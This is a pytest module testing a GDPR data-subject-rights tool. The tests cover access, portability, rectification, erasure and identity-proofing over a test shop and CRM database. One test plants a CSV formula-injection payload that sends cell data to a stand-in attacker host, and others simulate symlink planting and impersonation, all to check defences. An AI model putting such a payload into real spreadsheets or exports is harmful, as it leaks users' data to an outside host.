"""Executing requests over a small two-database shop, on SQLite and on PostgreSQL.

The shop (``shop``: customers, addresses, orders, invoices, products; ``crm``:
contacts, interactions) is built here with its dataset files and register, so
these tests pin the behaviour of requests independently of the generated
reference shop. After every request, every other subject's rows must be
byte-for-byte unchanged.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import uuid
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from garde import audit
from garde.datasets import ColumnMap, Masking, TableMap
from garde.legal_holds import place_hold
from garde.problems import GardeError
from garde.rights import FileMailer, check_code, send_code, submit, verify_out_of_band
from garde.rights.access import report_ready
from garde.rights.deployment import Deployment
from garde.rights.erasure_plan import ROW_PLACEHOLDER, staying_masking
from garde.rights.intake import Request, get_request
from garde.rights.rectification import LINKED
from garde.rights.running import locate, run
from garde.store import connect, migrate
from garde.subjects import find_subject, subject_state
from garde.suppression import is_suppressed
from tests.conftest import mailed_code

from .conftest import mode

REGISTER = """
language: en
controller: {name: Mini Shop SAS, country: FR, supervisory_authority: CNIL}
activities:
  - id: accounts
    name: {en: Customer accounts, fr: Comptes clients, it: Account dei clienti}
    purposes: [{en: Manage your account, fr: Gérer votre compte}]
    data_subjects: [customer]
    data_categories: [identity, contact, location, account]
    legal_bases: [contract]
    recipients: [service_providers]
    retention: ["3 years after last_contact"]
    sources: [data_subject]
  - id: orders
    name: {en: Orders and delivery, fr: Commandes et livraison}
    purposes: [{en: Deliver your orders}]
    data_subjects: [customer]
    data_categories: [transaction, contact]
    legal_bases: [contract]
    recipients: [carriers]
    retention: ["5 years after transaction_end"]
  - id: invoicing
    name: {en: Invoicing and accounting}
    purposes: [{en: Keep the accounts the law requires}]
    data_subjects: [customer]
    data_categories: [identity.name, contact.billing_address, transaction.invoice]
    legal_bases: [{basis: legal_obligation, obligation: "French Commercial Code L123-22"}]
    retention: ["10 years after invoice_date"]
  - id: newsletter
    name: {en: Newsletter}
    purposes: [{en: Send you our news}]
    data_subjects: [customer]
    data_categories: [contact.email, marketing]
    legal_bases: [consent]
    direct_marketing: true
    retention: ["until consent_withdrawn"]
  - id: crm-profiling
    name: {en: Customer knowledge}
    purposes: [{en: Understand our customers}]
    data_subjects: [customer]
    data_categories: [profile, communication, contact]
    legal_bases: [{basis: legitimate_interests, legitimate_interest: {en: knowing our customers}}]
    retention: ["3 years after last_contact"]
"""

SHOP = """
database: shop
url: {url}
register: ../register.yaml
tables:
  customers:
    subject: customer
    primary_key: id
    authoritative: true
    identities: {{email: email, customer_id: number}}
    timestamps: {{collection: created_at}}
    columns:
      email: {{category: contact.email, activities: [accounts, newsletter], erase: delete}}
      number: {{category: identity.customer_number, activities: [accounts], erase: delete}}
      name: {{category: identity.name, activities: [accounts], erase: delete}}
      phone: {{category: contact.phone, activities: [accounts], erase: delete}}
      birth_date: {{category: identity.date_of_birth, activities: [accounts], erase: delete}}
      newsletter: {{category: marketing.consents, activities: [newsletter], erase: delete}}
      password_hash: {{category: account.password, activities: [accounts], erase: delete}}
  addresses:
    subject: customer
    primary_key: id
    references: {{customer_id: customers.id}}
    columns:
      street: {{category: contact.postal_address, activities: [accounts], erase: delete}}
      postal_code: {{category: location.postal_code, activities: [accounts], erase: delete}}
  orders:
    subject: customer
    primary_key: id
    references: {{customer_id: customers.id}}
    timestamps: {{transaction_end: ordered_at}}
    columns:
      delivery_address: {{category: contact.delivery_address, activities: [orders], erase: delete}}
      total: {{category: transaction.order, activities: [orders], erase: delete}}
  invoices:
    subject: customer
    primary_key: id
    references: {{order_id: orders.id}}
    timestamps: {{invoice_date: invoice_date}}
    columns:
      billing_name:
        {{category: identity.name, activities: [invoicing], erase: {{strategy: fixed, value: "-"}}}}
      billing_address: {{category: contact.billing_address, activities: [invoicing], erase: hash}}
      amount: {{category: transaction.invoice, activities: [invoicing], erase: "null"}}
"""

CRM = """
database: crm
url: {url}
register: ../register.yaml
tables:
  contacts:
    subject: customer
    primary_key: id
    identities: {{email: email, phone: phone}}
    columns:
      email: {{category: contact.email, activities: [crm-profiling], erase: hash}}
      phone: {{category: contact.phone, activities: [crm-profiling], erase: hash}}
      segment: {{category: profile.segment, activities: [crm-profiling], erase: {{strategy: anonymise}}}}
  interactions:
    subject: customer
    primary_key: id
    references: {{contact_id: contacts.id}}
    columns:
      message: {{category: communication.message, activities: [crm-profiling], erase: delete}}
"""


def shop_schema() -> sa.MetaData:
    meta = sa.MetaData()
    sa.Table("customers", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("email", sa.String(200), nullable=False), sa.Column("number", sa.String(20)),
             sa.Column("name", sa.String(100)), sa.Column("phone", sa.String(30)),
             sa.Column("birth_date", sa.Date), sa.Column("newsletter", sa.Boolean),
             sa.Column("created_at", sa.DateTime), sa.Column("password_hash", sa.String(64)))
    sa.Table("addresses", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("customer_id", sa.ForeignKey("customers.id"), nullable=False),
             sa.Column("street", sa.String(200)), sa.Column("postal_code", sa.String(10)))
    sa.Table("orders", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("customer_id", sa.ForeignKey("customers.id"), nullable=False),
             sa.Column("ordered_at", sa.DateTime), sa.Column("delivery_address", sa.String(200)),
             sa.Column("total", sa.Numeric(10, 2)))
    sa.Table("invoices", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("order_id", sa.ForeignKey("orders.id"), nullable=False),
             sa.Column("invoice_date", sa.Date), sa.Column("billing_name", sa.String(100)),
             sa.Column("billing_address", sa.String(200)), sa.Column("amount", sa.Numeric(10, 2)))
    sa.Table("products", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("name", sa.String(50)))
    return meta


def crm_schema() -> sa.MetaData:
    meta = sa.MetaData()
    sa.Table("contacts", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("email", sa.String(200)), sa.Column("phone", sa.String(64)),
             sa.Column("segment", sa.String(30)))
    sa.Table("interactions", meta, sa.Column("id", sa.Integer, primary_key=True),
             sa.Column("contact_id", sa.ForeignKey("contacts.id"), nullable=False),
             sa.Column("message", sa.Text))
    return meta


def _customer(i: int, email: str, name: str, phone: str) -> dict[str, Any]:
    return {"id": i, "email": email, "number": f"C-{i:04d}", "name": name, "phone": phone,
            "birth_date": date(1980 + i, 2, 28), "newsletter": True,
            "created_at": datetime(2011, 1, i), "password_hash": f"$argon2id$v=19$secret-{i}"}


def fill(shop: sa.Engine, crm: sa.Engine) -> None:
    fill_shop(shop)
    fill_crm(crm)


def fill_shop(shop: sa.Engine) -> None:
    meta = shop_schema()
    meta.create_all(shop)
    t = meta.tables
    with shop.begin() as conn:
        conn.execute(t["customers"].insert(), [
            _customer(1, "ana@example.org", "Ana Lima", "+33611111111"),
            _customer(2, "bob@example.org", "Bob Stone", "+33622222222"),
            _customer(3, "cleo@example.org", "Cléo Marti", "+33633333333")])
        conn.execute(t["addresses"].insert(), [
            {"id": 1, "customer_id": 1, "street": "1 rue A", "postal_code": "75001"},
            {"id": 2, "customer_id": 1, "street": "2 rue B", "postal_code": "69002"},
            {"id": 3, "customer_id": 2, "street": "3 rue C", "postal_code": "13003"}])
        conn.execute(t["orders"].insert(), [
            {"id": 10, "customer_id": 1, "ordered_at": datetime(2012, 5, 1), "delivery_address": "1 rue A",
             "total": 10},
            {"id": 11, "customer_id": 1, "ordered_at": datetime(2024, 6, 1), "delivery_address": "2 rue B",
             "total": 20},
            {"id": 12, "customer_id": 2, "ordered_at": datetime(2024, 6, 2), "delivery_address": "3 rue C",
             "total": 30}])
        conn.execute(t["invoices"].insert(), [
            {"id": 100, "order_id": 10, "invoice_date": date(2012, 5, 1), "billing_name": "Ana Lima",
             "billing_address": "1 rue A", "amount": 10},
            {"id": 101, "order_id": 11, "invoice_date": date(2024, 6, 1), "billing_name": "Ana Lima",
             "billing_address": "2 rue B", "amount": 20},
            {"id": 102, "order_id": 12, "invoice_date": date(2024, 6, 2), "billing_name": "Bob Stone",
             "billing_address": "3 rue C", "amount": 30}])
        conn.execute(t["products"].insert(), [{"id": 1, "name": "scarf"}])


def fill_crm(crm: sa.Engine) -> None:
    meta = crm_schema()
    meta.create_all(crm)
    t = meta.tables
    with crm.begin() as conn:
        conn.execute(t["contacts"].insert(), [
            {"id": 1, "email": "ana@example.org", "phone": "+33699999999", "segment": "vip"},
            # Shares only the phone of contact 1, a record nobody checked: not Ana's (issue 9).
            {"id": 2, "email": None, "phone": "+33699999999", "segment": "lead"},
            {"id": 3, "email": "bob@example.org", "phone": "+33622222222", "segment": "new"}])
        conn.execute(t["interactions"].insert(), [
            {"id": 1, "contact_id": 1, "message": "Where is my parcel?"},
            {"id": 2, "contact_id": 2, "message": "Call me back"},
            {"id": 3, "contact_id": 3, "message": "Thanks!"}])


@dataclass
class Shop:
    store: sa.Engine
    deployment: Deployment
    urls: dict[str, str]


def _database(kind: str, tmp_path: Path, name: str, admin: str | None) -> str:
    if kind == "sqlite":
        return f"sqlite:///{tmp_path / name}.db"
    assert admin is not None
    db = f"garde_t_{uuid.uuid4().hex[:12]}"
    engine = sa.create_engine(admin, isolation_level="AUTOCOMMIT")
    with engine.connect() as conn:
        conn.execute(sa.text(f'CREATE DATABASE "{db}"'))
    engine.dispose()
    return sa.make_url(admin).set(database=db).render_as_string(hide_password=False)


def _filled(fill_one: Callable[[sa.Engine], None]) -> Callable[[str], None]:
    def filled(url: str) -> None:
        engine = connect(url)
        try:
            fill_one(engine)
        finally:
            engine.dispose()
    return filled


@pytest.fixture
def shop(migrated_url: str, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Shop]:
    """The shop and CRM of this module's data map, filled; on PostgreSQL copies of databases filled
    once per test worker (a CREATE DATABASE, its tables and rows cost the server ≈ 0.5 s a test)."""
    kind = "postgresql" if migrated_url.startswith("postgresql") else "sqlite"
    admin = request.getfixturevalue("postgres_admin_url") if kind == "postgresql" else None
    if admin is None:
        urls = {name: _database(kind, tmp_path, name, admin) for name in ("shop", "crm")}
    else:
        stores = request.getfixturevalue("migrated_stores")
        urls = {"shop": stores.postgres_filled(admin, "rights-shop", _filled(fill_shop)),
                "crm": stores.postgres_filled(admin, "rights-crm", _filled(fill_crm))}
    (tmp_path / "register.yaml").write_text(REGISTER)
    (tmp_path / "datasets").mkdir()
    (tmp_path / "datasets" / "shop.yaml").write_text(SHOP.format(url=urls["shop"]))
    (tmp_path / "datasets" / "crm.yaml").write_text(CRM.format(url=urls["crm"]))
    store = connect(migrated_url, create=True)
    migrate(store)
    deployment = Deployment.open(tmp_path / "datasets", results=tmp_path / "results",
                                 outbox=tmp_path / "outbox", create=True)
    deployment.exports = tmp_path / "exports"  # a test's own: an erasure reads and empties both
    if admin is None:
        fill(deployment.engines["shop"], deployment.engines["crm"])
    yield Shop(store, deployment, urls)
    deployment.dispose()
    store.dispose()
    if admin is not None:
        engine = sa.create_engine(admin, isolation_level="AUTOCOMMIT")
        with engine.connect() as conn:
            for url in urls.values():
                conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{sa.make_url(url).database}" WITH (FORCE)'))
        engine.dispose()


def others_checksum(shop: Shop, keys: dict[str, set[Any]]) -> str:
    """SHA-256 over every row of every table of both databases, except the subject's rows."""
    digest = hashlib.sha256()
    for name, engine in sorted(shop.deployment.engines.items()):
        meta = sa.MetaData()
        meta.reflect(engine)
        with engine.connect() as conn:
            for table in sorted(meta.sorted_tables, key=lambda t: t.name):
                pk = next(iter(table.primary_key.columns))
                for row in conn.execute(sa.select(table).order_by(pk)):
                    if row._mapping[pk.name] in keys.get(f"{name}.{table.name}", set()):
                        continue
                    digest.update(repr((table.name, tuple(row))).encode())
    return digest.hexdigest()


def verified(shop: Shop, type: str, identities: dict[str, str], **details: Any) -> str:
    with shop.store.begin() as conn:
        request = submit(conn, type, identities, language=details.pop("language", "en"), details=details)
        verify_out_of_band(conn, request.id, "identity card checked in store", actor="agent:test",
                           identities=list(identities))
    return request.id


def new_values_checked(shop: Shop, request_id: str, *kinds: str) -> None:
    """Staff's recorded check of a rectification's new identity values (``email``: ``new_email``),
    which a run needs before it writes them (garde.rights.new_identity)."""
    with shop.store.begin() as conn:
        verify_out_of_band(conn, request_id, "new value confirmed by phone", actor="agent:test",
                           identities=[f"new_{kind}" for kind in kinds])


def verified_request(conn: sa.Connection, identities: dict[str, str]) -> Request:
    """An access request whose every identity an agent checked (to locate a subject's rows)."""
    request = submit(conn, "access", identities)
    return verify_out_of_band(conn, request.id, "checked", actor="agent:test", identities=list(identities))


def ana_keys(shop: Shop, identities: dict[str, str] | None = None) -> dict[str, set[Any]]:
    with shop.store.begin() as conn:
        request = verified_request(conn, identities or {"email": "ana@example.org"})
    footprint = locate(shop.deployment, request)
    return {str(ref): set(footprint.primary_keys(*ref)) for ref in footprint.tables()}


def test_discovery_follows_references_across_databases(shop: Shop) -> None:
    keys = ana_keys(shop)
    assert keys == {"shop.customers": {1}, "shop.addresses": {1, 2}, "shop.orders": {10, 11},
                    "shop.invoices": {100, 101}, "crm.contacts": {1}, "crm.interactions": {1}}


def test_access_writes_json_and_html_in_the_subject_language(shop: Shop) -> None:
    keys = ana_keys(shop)
    before = others_checksum(shop, keys)
    request_id = verified(shop, "access", {"email": "ana@example.org"}, language="fr")
    done = run(shop.store, request_id, shop.deployment)
    assert done.status == "completed" and done.completed_at is not None
    folder = shop.deployment.results / request_id
    answer = json.loads((folder / "access.json").read_text())
    assert answer["tables"]["shop.customers"][0]["name"] == "Ana Lima"
    assert {c["id"] for c in answer["categories"]} >= {"contact.email", "identity.name",
                                                       "transaction.invoice"}
    email = next(c for c in answer["categories"] if c["id"] == "contact.email")
    assert {f["where"] for f in email["fields"]} == {"shop.customers.email", "crm.contacts.email"}
    invoicing = next(a for a in answer["activities"] if a["id"] == "invoicing")
    assert invoicing["legal_bases"][0]["label"] == "Obligation légale"
    assert invoicing["retention"] and "10" in invoicing["retention"][0]
    accounts = next(a for a in answer["activities"] if a["id"] == "accounts")
    assert accounts["name"] == "Comptes clients" and accounts["purposes"] == ["Gérer votre compte"]
    assert "CNIL" in answer["complaint"]
    report_ready(folder, shop.deployment.results)  # as every reader of the answer does
    html = (folder / "access.html").read_text()
    assert '<html lang="fr">' in html and "Vos données personnelles" in html and "Ana Lima" in html
    assert "Bob" not in html
    assert others_checksum(shop, {}) == others_checksum(shop, {})  # reads only
    assert others_checksum(shop, keys) == before
    with shop.store.begin() as conn:
        kinds = [e["kind"] for e in audit.entries(conn)]
        assert kinds[-3:] == ["request.in_progress", "request.subject_found", "request.completed"]
        assert audit.verify(conn).ok


def test_access_answer_lists_the_rights_the_subjects_activities_give(shop: Shop) -> None:
    # Art. 15(1)(e): the rights as the register's activities give them, not a fixed list.
    request_id = verified(shop, "access", {"email": "ana@example.org"}, language="en")
    run(shop.store, request_id, shop.deployment)
    answer = json.loads((shop.deployment.results / request_id / "access.json").read_text())
    rights = answer["rights"]
    objection = next(r for r in rights if r.startswith("Objection:"))
    assert objection.endswith("Activities concerned: Customer knowledge")  # legitimate interests only
    marketing = next(r for r in rights if "direct marketing" in r)
    assert marketing.endswith("Activities concerned: Newsletter")
    portability = next(r for r in rights if r.startswith("Portability:"))
    # Invoicing (legal obligation) and Customer knowledge (legitimate interests): no portability
    assert "Invoicing" not in portability and "Customer knowledge" not in portability
    assert len(rights) == len(set(rights))


def test_portability_keeps_provided_data_on_consent_or_contract(shop: Shop) -> None:
    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
    run(shop.store, request_id, shop.deployment)
    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
        names = set(archive.namelist())
        data = json.loads(archive.read("data.json"))
    assert "data.json" in names and "shop.customers.csv" in names
    customer = data["shop.customers"][0]
    assert customer["email"] == "ana@example.org" and customer["name"] == "Ana Lima"
    assert "number" not in customer  # derived, not provided
    assert "crm.contacts" not in data  # legitimate interests: not portable
    assert "shop.invoices" not in data  # legal obligation: not portable


def test_portability_never_exports_credentials(shop: Shop) -> None:
    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
    run(shop.store, request_id, shop.deployment)
    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        customer = json.loads(archive.read("data.json"))["shop.customers"][0]
    # account.password is provided, on contract, yet a secret: the same categories the access
    # answer hides never leave in a portable file, not even as an empty column.
    assert "password_hash" not in customer and customer["email"] == "ana@example.org"
    assert b"password_hash" not in everything and b"secret-1" not in everything
    assert shop.deployment.is_secret("account.security_question")  # resets the password too
    assert not shop.deployment.is_secret("account.login")


def test_portability_csv_cannot_run_as_a_formula(shop: Shop) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'
    with shop.deployment.engines["shop"].begin() as conn:
        conn.execute(sa.text("UPDATE customers SET name = :name WHERE id = 1"), {"name": payload})
    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
    run(shop.store, request_id, shop.deployment)
    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
        (customer,) = csv.DictReader(io.StringIO(archive.read("shop.customers.csv").decode("utf-8")))
        data = json.loads(archive.read("data.json"))
    assert customer["name"] == "'" + payload and customer["phone"] == "+33611111111"
    assert data["shop.customers"][0]["name"] == payload  # the machine format keeps the value as stored


@pytest.mark.usefixtures("umask_022")
def test_request_results_are_owner_only(shop: Shop) -> None:
    for kind, identities in (("access", {"email": "ana@example.org"}),
                             ("portability", {"customer_id": "C-0001"}),
                             ("erasure", {"email": "bob@example.org"})):
        request_id = verified(shop, kind, identities)
        assert run(shop.store, request_id, shop.deployment).status == "completed"
        folder = shop.deployment.results / request_id
        files = {path.name: mode(path) for path in folder.iterdir()}
        assert files and set(files.values()) == {0o600}, (kind, files)
        assert mode(folder) == 0o700
    assert mode(shop.deployment.results) == 0o700


def test_a_symlinked_answer_folder_is_not_written_through(shop: Shop, tmp_path: Path) -> None:
    """Someone who can write the results folder plants the next request's answer folder as a link:
    the access answer (Ana's data) must not land where it points; the request fails, saying why."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    request_id = verified(shop, "access", {"email": "ana@example.org"})
    shop.deployment.results.mkdir(parents=True, exist_ok=True)
    (shop.deployment.results / request_id).symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(GardeError, match="symbolic link"):
        run(shop.store, request_id, shop.deployment)
    assert list(elsewhere.iterdir()) == []
    with shop.store.connect() as conn:
        assert get_request(conn, request_id).status == "failed"


def test_rectification_reaches_every_copy(shop: Shop) -> None:
    # The phone is an identity (crm.contacts): changing it needs the phone proven too.
    proven = {"email": "ana@example.org", "phone": "+33699999999"}
    keys = ana_keys(shop, proven)
    before = others_checksum(shop, keys)
    request_id = verified(shop, "rectification", proven,
                          corrections={"contact.phone": "+33600000000"})
    new_values_checked(shop, request_id, "phone")
    done = run(shop.store, request_id, shop.deployment)
    # Contact 2 holds the proven phone: it is matched by it directly (not through contact 1).
    assert done.result == {"changed": {"shop.customers.phone": 1, "crm.contacts.phone": 2},
                           "new_identities": {"phone": LINKED},
                           "identities": {"email": "proven out of band", "phone": "proven out of band"}}
    with shop.deployment.engines["crm"].connect() as conn:
        phones = conn.execute(sa.text("SELECT phone FROM contacts WHERE id IN (1, 2) ORDER BY id"))
        assert phones.scalars().all() == ["+33600000000", "+33600000000"]
    assert others_checksum(shop, keys) == before


def test_erasure_keeps_what_the_law_requires_and_says_why(shop: Shop) -> None:
    keys = ana_keys(shop)
    before = others_checksum(shop, keys)
    request_id = verified(shop, "erasure", {"email": "ana@example.org"})
    done = run(shop.store, request_id, shop.deployment, today=date(2025, 3, 1))
    assert done.status == "completed"
    report = json.loads((shop.deployment.results / request_id / "erasure.json").read_text())
    kept = {(k["table"], k["key"], k["column"]): k["reason"] for k in report["kept"]}
    assert "kept until 2034-06-01" in kept["shop.invoices", 101, "billing_name"]
    assert ("shop.invoices", 100, "billing_name") not in kept  # 2012 + 10 years: due
    assert "row kept" in kept["shop.orders", 11, "id"]
    shop_engine, crm_engine = shop.deployment.engines["shop"], shop.deployment.engines["crm"]
    with shop_engine.connect() as conn:
        invoices = {r.id: r for r in conn.execute(sa.text("SELECT * FROM invoices"))}
        assert invoices[101].billing_name == "Ana Lima"
        assert invoices[100].billing_name == "-" and invoices[100].amount is None
        assert len(invoices[100].billing_address) == 64
        orders = {r.id: r for r in conn.execute(sa.text("SELECT * FROM orders"))}
        assert orders[11].delivery_address is None  # stays (its invoice is kept), masked
        assert orders[10].delivery_address is None
        customer = conn.execute(sa.text("SELECT * FROM customers WHERE id = 1")).one()
        assert customer.name is None and customer.phone is None
        # NOT NULL: neither NULL nor a hash of the e-mail (still personal data), a per-row placeholder.
        assert customer.email == "erased:shop.customers:1"
        assert conn.execute(sa.text("SELECT count(*) FROM addresses WHERE customer_id = 1")).scalar() == 0
    with crm_engine.connect() as conn:
        left = conn.execute(sa.text("SELECT contact_id FROM interactions WHERE contact_id IN (1, 2)"))
        assert left.scalars().all() == [2]  # contact 2 is not Ana's: untouched
        segments = conn.execute(sa.text("SELECT segment FROM contacts WHERE id IN (1, 2) ORDER BY id"))
        assert segments.scalars().all() == ["anonymised", "lead"]
    assert others_checksum(shop, keys) == before
    with shop.store.begin() as conn:
        assert subject_state(conn, done.subject_id or "") == "erased"
        kinds = [e["kind"] for e in audit.entries(conn)]
        assert kinds.index("request.erasure_planned") < kinds.index("request.erasure_applied")
        assert audit.verify(conn).ok


def test_erasure_resumes_and_touches_nothing_twice(shop: Shop) -> None:
    request_id = verified(shop, "erasure", {"email": "ana@example.org"})
    with shop.store.begin() as conn:
        place_hold(conn, "table", "crm.contacts", "fraud investigation 2025-17")

    def snapshot() -> str:
        return others_checksum(shop, {})

    run(shop.store, request_id, shop.deployment, today=date(2025, 3, 1))
    after_first = snapshot()
    # Simulate a crash after the databases committed but before the store knew: steps back to planned.
    with shop.store.begin() as conn:
        conn.execute(sa.text("UPDATE erasure_steps SET status = 'planned'"))
        conn.execute(sa.text("UPDATE requests SET status = 'in_progress'"))
    run(shop.store, request_id, shop.deployment, today=date(2025, 3, 1))
    assert snapshot() == after_first  # no hash of a hash, no second masking
    report = json.loads((shop.deployment.results / request_id / "erasure.json").read_text())
    held = [k for k in report["kept"] if k["table"] == "crm.contacts"]
    assert held and all("fraud investigation" in k["reason"] for k in held)
    with shop.deployment.engines["crm"].connect() as conn:
        assert conn.execute(sa.text("SELECT email FROM contacts WHERE id = 1")).scalar() == "ana@example.org"


def test_restriction_and_objection_are_recorded_on_the_subject(shop: Shop) -> None:
    keys = ana_keys(shop)
    before = others_checksum(shop, keys)
    restriction = verified(shop, "restriction", {"email": "ana@example.org"}, reason="accuracy contested")
    done = run(shop.store, restriction, shop.deployment)
    objection = verified(shop, "objection", {"email": "ana@example.org"}, scope="direct_marketing")
    run(shop.store, objection, shop.deployment)
    with shop.store.begin() as conn:
        assert subject_state(conn, done.subject_id or "") == "restricted"
        assert is_suppressed(conn, {"email": "ana@example.org"})
        # Read on a crm contact nobody checked: it may be someone else's phone (issue 9).
        assert not is_suppressed(conn, {"phone": "+33699999999"})
        assert not is_suppressed(conn, {"email": "bob@example.org"})
    assert others_checksum(shop, keys) == before
    assert others_checksum(shop, {}) == others_checksum(shop, {})


def test_an_unverified_request_cannot_run(shop: Shop) -> None:
    with shop.store.begin() as conn:
        request = submit(conn, "erasure", {"email": "ana@example.org"}, received_at=datetime.now(UTC))
    with pytest.raises(Exception, match="verify the requester"):
        run(shop.store, request.id, shop.deployment)


def test_a_not_null_column_of_a_staying_row_gets_a_placeholder_not_a_hash(tmp_path: Path) -> None:
    engine = sa.create_engine(f"sqlite:///{tmp_path / 'x.db'}")
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE people (id INTEGER PRIMARY KEY, email VARCHAR(80) NOT NULL, "
                             "score INTEGER NOT NULL, note VARCHAR(80))"))
    erased = Masking("delete")
    table = TableMap("db", "people", "id", columns={
        name: ColumnMap(name, "contact.email", erase=erased) for name in ("email", "score", "note")})
    assert staying_masking(engine, table, table.columns["note"]) == Masking("null")
    assert staying_masking(engine, table, table.columns["email"]) == ROW_PLACEHOLDER
    with pytest.raises(GardeError, match=r"people\.score is NOT NULL and not text"):
        staying_masking(engine, table, table.columns["score"])
    engine.dispose()


def test_a_subject_hold_on_one_identity_keeps_everything_of_that_subject(shop: Shop) -> None:
    keys = ana_keys(shop)
    before = others_checksum(shop, keys)
    with shop.store.begin() as conn:  # the hold's spelling differs from the request's
        place_hold(conn, "subject", "email:ANA@example.org", "litigation 2025-03 (court of Lyon)")
    request_id = verified(shop, "erasure", {"email": "ana@example.org"})
    run(shop.store, request_id, shop.deployment, today=date(2025, 3, 1))
    report = json.loads((shop.deployment.results / request_id / "erasure.json").read_text())
    assert report["erased"] == []
    reasons = {k["reason"] for k in report["kept"]}
    assert "legal hold on the subject: litigation 2025-03 (court of Lyon)" in reasons
    assert all("litigation 2025-03" in r or r.startswith("row kept:") for r in reasons)
    assert others_checksum(shop, keys) == before
    with shop.deployment.engines["shop"].connect() as conn:
        assert conn.execute(sa.text("SELECT name FROM customers WHERE id = 1")).scalar() == "Ana Lima"


# --- A request acts only for the identities that were proven (issue 9) ---------------------------


def attacker_request(shop: Shop, tmp_path: Path, type: str, victim: dict[str, str], **details: Any) -> str:
    """Bob submits with his own e-mail plus the victim's identity, and verifies his own mailbox."""
    outbox = tmp_path / "attacker-outbox"
    with shop.store.begin() as conn:
        request = submit(conn, type, {"email": "bob@example.org", **victim}, details=details)
        send_code(conn, request.id, FileMailer(outbox))
    with shop.store.begin() as conn:
        assert check_code(conn, request.id, mailed_code(outbox)).verified
    return request.id


VICTIMS = [{"customer_id": "C-0001"}, {"phone": "+33699999999"}]


@pytest.mark.parametrize("victim", VICTIMS, ids=["customer_id", "phone"])
def test_access_with_someone_elses_identity_does_not_read_their_data(shop: Shop, tmp_path: Path,
                                                                     victim: dict[str, str]) -> None:
    request_id = attacker_request(shop, tmp_path, "access", victim)
    done = run(shop.store, request_id, shop.deployment)
    answer = (shop.deployment.results / request_id / "access.json").read_text()
    assert "Bob Stone" in answer
    assert "Ana Lima" not in answer and "ana@example.org" not in answer and "+33699999999" not in answer
    assert "Where is my parcel?" not in answer and "Call me back" not in answer
    assert done.result is not None
    (kind,) = victim
    assert done.result["identities"][kind] == "not proven, not used"
    assert done.result["identities"]["email"] == "proven by one-time code"


@pytest.mark.parametrize("victim", VICTIMS, ids=["customer_id", "phone"])
def test_erasure_with_someone_elses_identity_does_not_erase_them(shop: Shop, tmp_path: Path,
                                                                 victim: dict[str, str]) -> None:
    ana = ana_keys(shop)
    with shop.store.begin() as conn:
        bob = locate(shop.deployment, verified_request(conn, {"email": "bob@example.org"}))
    bob_keys = {str(ref): set(bob.primary_keys(*ref)) for ref in bob.tables()}
    before = others_checksum(shop, bob_keys)
    request_id = attacker_request(shop, tmp_path, "erasure", victim)
    run(shop.store, request_id, shop.deployment, today=date(2025, 3, 1))
    assert others_checksum(shop, bob_keys) == before  # Ana's rows (and everyone else's) untouched
    with shop.deployment.engines["shop"].connect() as conn:
        assert conn.execute(sa.text("SELECT name FROM customers WHERE id = 1")).scalar() == "Ana Lima"
    assert ana == ana_keys(shop)


@pytest.mark.parametrize("victim", VICTIMS, ids=["customer_id", "phone"])
def test_rectifying_the_email_with_someone_elses_identity_is_no_account_takeover(
        shop: Shop, tmp_path: Path, victim: dict[str, str]) -> None:
    request_id = attacker_request(shop, tmp_path, "rectification", victim,
                                  corrections={"contact.email": "bob.new@example.org"})
    new_values_checked(shop, request_id, "email")
    run(shop.store, request_id, shop.deployment)
    with shop.deployment.engines["shop"].connect() as conn:
        emails = dict(conn.execute(sa.text("SELECT id, email FROM customers ORDER BY id")).all())
    assert emails == {1: "ana@example.org", 2: "bob.new@example.org", 3: "cleo@example.org"}
    with shop.deployment.engines["crm"].connect() as conn:
        assert conn.execute(sa.text("SELECT email FROM contacts WHERE id = 1")).scalar() == "ana@example.org"


def test_an_unproven_identity_found_with_the_proven_one_is_said_to_belong_to_them(shop: Shop,
                                                                                  tmp_path: Path) -> None:
    outbox = tmp_path / "outbox"
    with shop.store.begin() as conn:
        request = submit(conn, "access", {"email": "ana@example.org", "customer_id": "C-0001",
                                          "phone": "+33622222222"})
        send_code(conn, request.id, FileMailer(outbox))
    with shop.store.begin() as conn:
        assert check_code(conn, request.id, mailed_code(outbox)).verified
    done = run(shop.store, request.id, shop.deployment)
    assert done.result is not None
    assert done.result["identities"] == {"email": "proven by one-time code",
                                         "customer_id": "not proven, found to belong to the same person",
                                         "phone": "not proven, not used"}  # Bob's phone


def test_rectifying_an_identity_needs_that_identity_proven(shop: Shop, tmp_path: Path) -> None:
    outbox = tmp_path / "outbox"
    with shop.store.begin() as conn:  # Ana proves her phone by SMS, not her e-mail, and asks to change it
        request = submit(conn, "rectification", {"phone": "+33699999999", "email": "ana@example.org"},
                         details={"corrections": {"contact.email": "eve@example.org"}})
        send_code(conn, request.id, FileMailer(outbox), kind="phone")
    (to, text), = FileMailer(outbox).texts()
    assert to == "+33699999999"
    code = re.search(r"\b(\d{6})\b", text).group(1)  # type: ignore[union-attr]
    with shop.store.begin() as conn:
        assert check_code(conn, request.id, code, kind="phone").verified
    with pytest.raises(GardeError, match=r"email.*not proven"):
        run(shop.store, request.id, shop.deployment)
    with shop.deployment.engines["crm"].connect() as conn:
        assert conn.execute(sa.text("SELECT email FROM contacts WHERE id = 1")).scalar() == "ana@example.org"
    with shop.store.begin() as conn:  # still verified: Ana proves her e-mail too, and runs it again
        assert get_request(conn, request.id).status == "verified"
